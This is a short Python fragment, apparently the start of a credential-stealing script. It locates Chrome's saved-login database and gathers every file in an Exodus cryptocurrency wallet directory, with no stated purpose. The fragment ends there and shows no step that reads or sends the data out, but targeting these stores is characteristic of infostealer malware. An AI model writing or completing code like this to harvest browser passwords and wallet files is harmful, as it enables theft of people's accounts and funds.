import os, glob
profile = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
wallets = glob.glob(os.path.expanduser("~/.config/Exodus/exodus.wallet/*"))
